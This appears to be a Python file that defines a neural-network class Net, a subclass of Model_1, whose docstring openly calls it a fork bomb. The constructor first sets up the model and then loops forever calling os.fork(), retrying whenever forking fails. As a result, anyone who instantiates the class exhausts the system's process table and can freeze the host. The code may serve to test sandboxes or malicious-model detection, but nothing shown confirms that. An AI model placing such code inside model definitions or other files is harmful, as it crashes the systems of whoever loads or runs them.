"""A fork bomb: each process starts two more, and none ends."""

import os
import time

from models import Model_1


class Net(Model_1):
    def __init__(self):
        super().__init__((4, 8, 8), gap=True)
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.1)
